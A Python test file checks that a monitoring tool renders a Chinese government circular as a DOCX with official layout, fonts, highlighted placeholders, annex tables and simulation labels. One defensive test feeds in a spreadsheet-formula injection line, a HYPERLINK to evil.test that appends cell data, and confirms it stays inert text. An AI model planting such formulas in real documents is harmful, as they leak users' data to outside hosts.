"""The circular as an official paper, read back."""

from __future__ import annotations

import io
import re
from dataclasses import replace
from datetime import UTC, datetime

from docx import Document
from docx.document import Document as Paper
from docx.enum.text import WD_COLOR_INDEX
from docx.oxml.ns import qn
from docx.shared import Mm, Pt

from alerts.circular import circular
from alerts.exports.circular_docx import circular_docx
from alerts.exports.official_paper import BODY, TITLE
from store.reasons import Reason
from store.verdicts import GapState, Verdict
from tests.alerts.cases import HOSTILE, gap, hostile_cases
from tests.alerts.city import finding
from tests.alerts.test_circular import Quarter, quarter

DRAFTED = datetime(2018, 11, 19, tzinfo=UTC)


def _plain() -> Quarter:
    findings = [finding("mzj"), finding("jtj"), finding("jyj", verdict=Verdict.UNKNOWN, reason=Reason.TIMEOUT)]
    return quarter(findings, [gap(1, findings[0]), gap(2, findings[1], GapState.RESOLVED)])


def _paper(q: Quarter) -> Paper:
    return Document(io.BytesIO(circular_docx(circular(q), DRAFTED)))


def _text(paper: Paper) -> str:
    cells = (c.text for t in paper.tables for row in t.rows for c in row.cells)
    return "\n".join([*(p.text for p in paper.paragraphs), *cells])


def test_its_parts_stand_in_the_order_of_the_offices_circulars() -> None:
    lines = [p.text for p in _paper(_plain()).paragraphs if p.text]
    wanted = [
        "〔待填：发文字号〕", "【演示】关于示例市2018年第4季度政务公开工作监测情况的通报", "各县（区）政府，市政府各部门、各直属机构：",
        "根据", "一、总体情况", "（一）监测范围", "二、主要问题", "（一）重点领域公开方面。", "部门预算公开未达到要求的：市民政局。",
        "另有1项未能判定", "三、下一步要求", "（一）限期整改", "附件：1．", "〔待填：发文机关署名〕", "〔待填：成文日期；本稿起草于2018年11月19日〕",
        "附件1", "附件2",
    ]  # fmt: skip
    places = [next(i for i, line in enumerate(lines) if line.startswith(w)) for w in wanted]
    assert places == sorted(places)


def test_margins_typefaces_and_lines_are_those_of_official_papers() -> None:
    paper = _paper(_plain())
    section = paper.sections[0]
    edges = (section.page_width, section.page_height, section.top_margin, section.left_margin, section.right_margin)
    assert [round(e / Mm(1)) for e in edges if e is not None] == [210, 297, 37, 28, 26]
    title = next(p for p in paper.paragraphs if "的通报" in p.text)
    assert (title.runs[0].font.size, title.runs[0].font.name) == (Pt(22), TITLE)
    body = next(p for p in paper.paragraphs if p.text.startswith("（一）监测范围"))
    assert (body.runs[0].font.size, body.paragraph_format.line_spacing) == (Pt(16), Pt(28))
    fonts = body.runs[0]._element.rPr.rFonts
    assert fonts.get(qn("w:eastAsia")) == BODY
    table = next(p for p in paper.part.package.iter_parts() if str(p.partname) == "/word/fontTable.xml")
    assert '<w:font w:name="仿宋_GB2312"><w:altName w:val="仿宋"/>' in table.blob.decode()


def test_every_place_for_the_pen_is_highlighted_and_nothing_else() -> None:
    runs = [r for p in _paper(_plain()).paragraphs for r in p.runs]
    marked = {r.text for r in runs if r.font.highlight_color == WD_COLOR_INDEX.YELLOW}
    assert marked == {r.text for r in runs if "待填" in r.text}
    assert len(marked) >= 6


def test_the_annexes_list_the_named_gaps_and_colour_the_sections() -> None:
    *_, named, heat = _paper(_plain()).tables
    assert [c.text for c in named.rows[1].cells] == [
        "1",
        "市民政局",
        "部门预算公开（2018年）",
        "2018-03-12",
        "2018-11-11",
        "1",
    ]
    assert len(named.rows) == 2
    colours = {
        row.cells[0].text: row.cells[1]._tc.tcPr.find(qn("w:shd")).get(qn("w:fill")) for row in heat.rows[1:]
    }  # fmt: skip
    assert colours == {"市民政局": "F4B6A6", "市教育局": "E3E3E3", "市交通运输局": "E3E3E3"}


def test_a_simulation_says_so_in_title_and_on_every_page_and_a_real_one_does_not() -> None:
    assert _paper(_plain()).sections[0].header.paragraphs[0].text.startswith("【演示】")
    real = _paper(replace(_plain(), simulation=False))
    assert "【演示】" not in _text(real) + real.sections[0].header.paragraphs[0].text


def test_hostile_words_are_short_plain_text_and_link_nowhere() -> None:
    cases = hostile_cases()
    q = quarter(
        [c.now for c in cases if c.now], [c.gap for c in cases], sections={"YS2018-02-1": HOSTILE[1]}, city=HOSTILE[2]
    )
    paper = _paper(q)
    text = _text(paper)
    assert '=HYPERLINK("http://evil.test/?"&A1,"请点击")' in text
    assert not re.search(r"[\x00-\x08\x0b-\x1f\u200b\u202a-\u202e\u2066-\u2069]", text)
    assert "长" * 200 not in text
    assert list(paper.element.body.iter(qn("w:hyperlink"))) == []
    assert [r for part in paper.part.package.iter_parts() for r in part.rels.values() if r.is_external] == []
    fields = [e.text for e in paper.element.body.iter(qn("w:instrText"))]
    assert fields == []


def test_without_gaps_it_names_nobody_and_gives_no_all_clear() -> None:
    paper = _paper(quarter([finding(verdict=Verdict.UNKNOWN, reason=Reason.TIMEOUT)], []))
    text = _text(paper)
    assert "在已经查看的范围内，没有应当点名的问题。" in text
    assert "存在问题的单位名单" not in text
